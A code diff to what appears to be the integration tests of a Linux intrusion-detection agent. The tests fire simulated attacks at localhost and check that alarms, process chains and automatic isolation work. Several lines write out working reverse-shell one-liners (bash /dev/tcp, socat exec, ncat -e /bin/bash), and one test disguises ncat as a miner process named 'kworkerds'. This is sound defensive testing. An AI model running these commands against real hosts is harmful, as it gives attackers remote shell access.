@@ -53,8 +53,7 @@ async fn process_attacks_raise_their_alarms_with_the_process_chain() -> Result<(
         let dir = env.subdir("attacks");
 
         // 1. bash /dev/tcp.
-        let _l1 = listener(&env, &dir, "127.0.0.1", 19101, "id", 5)?;
-        tokio::time::sleep(millis(300)).await;
+        let _l1 = listener(&env, &dir, "127.0.0.1", 19101, "id", 5).await?;
         let (_a1, t1) = attack(&env, &dir, "bash-tcp", "timeout 8 bash -c 'bash -i >& /dev/tcp/127.0.0.1/19101 0>&1'")?;
         let a = wait_behaviour_alarm(&api, &server, "reverse_shell", "bash /dev/tcp", |a| peer_is(a, "127.0.0.1:19101")).await?;
         let a = detail(&api, &a).await?;
@@ -65,8 +64,7 @@ async fn process_attacks_raise_their_alarms_with_the_process_chain() -> Result<(
         ensure!(a["severity"] == "critical" && a["technique"].as_str().is_some_and(|t| t.starts_with("T1059.004")), "{a}");
 
         // 2. python pty: the shell's own descriptors are a terminal; its parent holds the socket.
-        let _l2 = listener(&env, &dir, "127.0.0.1", 19102, "id", 5)?;
-        tokio::time::sleep(millis(300)).await;
+        let _l2 = listener(&env, &dir, "127.0.0.1", 19102, "id", 5).await?;
         let (_a2, t2) = attack(
             &env,
             &dir,
@@ -80,15 +78,13 @@ async fn process_attacks_raise_their_alarms_with_the_process_chain() -> Result<(
         ensure!(chain.first().is_some_and(|e| e.ends_with("bash")) && chain.iter().any(|e| e.contains("python3")), "bash under python: {a}");
 
         // 3. socat exec: a pty shell whose parent is the relay.
-        let _l3 = listener(&env, &dir, "127.0.0.1", 19103, "id", 5)?;
-        tokio::time::sleep(millis(300)).await;
+        let _l3 = listener(&env, &dir, "127.0.0.1", 19103, "id", 5).await?;
         let (_a3, t3) = attack(&env, &dir, "socat", "timeout 8 socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:127.0.0.1:19103")?;
         let a = wait_behaviour_alarm(&api, &server, "reverse_shell", "socat", |a| peer_is(a, "127.0.0.1:19103")).await?;
         ensure!(detection_secs(&a, t3) <= 5, "{a}");
 
         // 4. nc -e (nmap's ncat).
-        let _l4 = listener(&env, &dir, "127.0.0.1", 19104, "id", 5)?;
-        tokio::time::sleep(millis(300)).await;
+        let _l4 = listener(&env, &dir, "127.0.0.1", 19104, "id", 5).await?;
         let (_a4, t4) = attack(&env, &dir, "ncat-e", "timeout 8 ncat -e /bin/bash 127.0.0.1 19104")?;
         let a = wait_behaviour_alarm(&api, &server, "reverse_shell", "ncat -e", |a| {
             a["evidence"]["details"].as_array().is_some_and(|d| d.iter().any(|d| d.as_str().is_some_and(|d| d.contains("ncat"))))
@@ -120,8 +116,7 @@ async fn process_attacks_raise_their_alarms_with_the_process_chain() -> Result<(
         // 7. A fake miner (a renamed ncat) connecting to a stratum port.
         let miner = dir.join("kworkerds");
         std::fs::copy("/usr/bin/ncat", &miner)?;
-        let _l7 = listener(&env, &dir, "127.0.0.1", 3334, "", 5)?;
-        tokio::time::sleep(millis(300)).await;
+        let _l7 = listener(&env, &dir, "127.0.0.1", 3334, "", 5).await?;
         let (_a7, t7) = attack(&env, &dir, "miner", &format!("timeout 4 {} 127.0.0.1 3334 </dev/null", miner.display()))?;
         let a = wait_behaviour_alarm(&api, &server, "crypto_miner", "stratum", |a| peer_is(a, "127.0.0.1:3334")).await?;
         ensure!(detection_secs(&a, t7) <= 5, "{a}");
@@ -347,32 +342,10 @@ async fn a_normal_workload_raises_no_alarm() -> Result<()> {
             format!("* * * * * root date > {}\n", marker.display()),
         )?;
         std::fs::set_permissions(&job, std::fs::Permissions::from_mode(0o644))?;
-        let keys = env.subdir("keys");
-        let key = keys.join("client_key");
-        run_cmd(
-            Path::new("ssh-keygen"),
-            &[
-                "-q",
-                "-t",
-                "ed25519",
-                "-N",
-                "",
-                "-f",
-                &key.display().to_string(),
-            ]
-            .map(String::from),
-            None,
-        )
-        .await?
-        .ok()?;
-        let (account, _) = User::random("wl").await?;
-        let user = account.0.clone();
-        std::fs::copy(
-            keys.join("client_key.pub"),
-            keys.join(format!("{user}.keys")),
-        )?;
-        let authorized = format!("AuthorizedKeysFile={}/%u.keys", keys.display());
-        let sshd = Sshd::start(&env, &n, &[&authorized, "StrictModes=no"]).await?;
+        let acct = KeyAccount::new(&env, "wl").await?;
+        let (key, user) = (acct.key.clone(), acct.user.clone());
+        let opts = acct.sshd_options();
+        let sshd = Sshd::start(&env, &n, &[&opts[0], &opts[1]]).await?;
 
         let center = Center::start(&env, Backend::Sqlite, CenterOpts::default()).await?;
         let api = center.api();
@@ -450,7 +423,7 @@ async fn a_normal_workload_raises_no_alarm() -> Result<()> {
             .await?;
             // A service restart: the lab's sshd, stopped and started again.
             drop(sshd);
-            let _sshd = Sshd::start(&env, &n, &[&authorized, "StrictModes=no"]).await?;
+            let _sshd = Sshd::start(&env, &n, &[&opts[0], &opts[1]]).await?;
             // A cron job run.
             host_until("the cron job to run", || marker.exists())
                 .await
@@ -528,8 +501,7 @@ async fn isolate_and_kill_quarantines_refuses_copies_and_restores() -> Result<()
         std::fs::set_permissions(&bin, std::fs::Permissions::from_mode(0o750))?;
 
         // The dropper dials out and runs a shell on the connection.
-        let _l = listener(&env, &dir, "127.0.0.1", 19201, "sleep 30", 30)?;
-        tokio::time::sleep(millis(300)).await;
+        let _l = listener(&env, &dir, "127.0.0.1", 19201, "sleep 30", 30).await?;
         let (_a, _) = attack(
             &env,
             &dir,
@@ -544,12 +516,7 @@ async fn isolate_and_kill_quarantines_refuses_copies_and_restores() -> Result<()
             a["evidence"]["file"].as_str() == bin.to_str(),
             "the dropper is the file to isolate: {a}"
         );
-        let pids: Vec<i64> = a["evidence"]["processes"]
-            .as_array()
-            .into_iter()
-            .flatten()
-            .filter_map(|p| p["pid"].as_i64())
-            .collect();
+        let pids = chain_pids(&a);
         let (shell, dropper) = (pids[0], pids[1]);
         ensure!(
             alive(shell) && alive(dropper),
@@ -669,8 +636,7 @@ async fn isolate_and_kill_quarantines_refuses_copies_and_restores() -> Result<()
         })
         .await?;
         tokio::time::sleep(secs(2)).await;
-        let _l2 = listener(&env, &dir, "127.0.0.1", 19202, "sleep 30", 30)?;
-        tokio::time::sleep(millis(300)).await;
+        let _l2 = listener(&env, &dir, "127.0.0.1", 19202, "sleep 30", 30).await?;
         let (_a2, _) = attack(
             &env,
             &dir,
@@ -687,12 +653,7 @@ async fn isolate_and_kill_quarantines_refuses_copies_and_restores() -> Result<()
                 .is_some_and(|r| r.starts_with("isolated and killed automatically")),
             "{a}"
         );
-        let pids: Vec<i64> = a["evidence"]["processes"]
-            .as_array()
-            .into_iter()
-            .flatten()
-            .filter_map(|p| p["pid"].as_i64())
-            .collect();
+        let pids = chain_pids(&a);
         host_until("the auto-killed tree to die", || {
             pids.iter().take(2).all(|p| !alive(*p))
         })
@@ -719,8 +680,7 @@ async fn with_bpf_off_the_proc_tier_detects_what_it_can_and_says_what_it_cannot(
 
         // A reverse shell: the interactive shell lives as long as its connection, so /proc is
         // read in time.
-        let _l = listener(&env, &dir, "127.0.0.1", 19301, "sleep 5", 8)?;
-        tokio::time::sleep(millis(300)).await;
+        let _l = listener(&env, &dir, "127.0.0.1", 19301, "sleep 5", 8).await?;
         let (_a, t) = attack(&env, &dir, "bash-tcp", "timeout 10 bash -c 'bash -i >& /dev/tcp/127.0.0.1/19301 0>&1'")?;
         let a = wait_behaviour_alarm(&api, &server, "reverse_shell", "bash /dev/tcp", |a| peer_is(a, "127.0.0.1:19301")).await?;
         ensure!(detection_secs(&a, t) <= 5, "{a}");
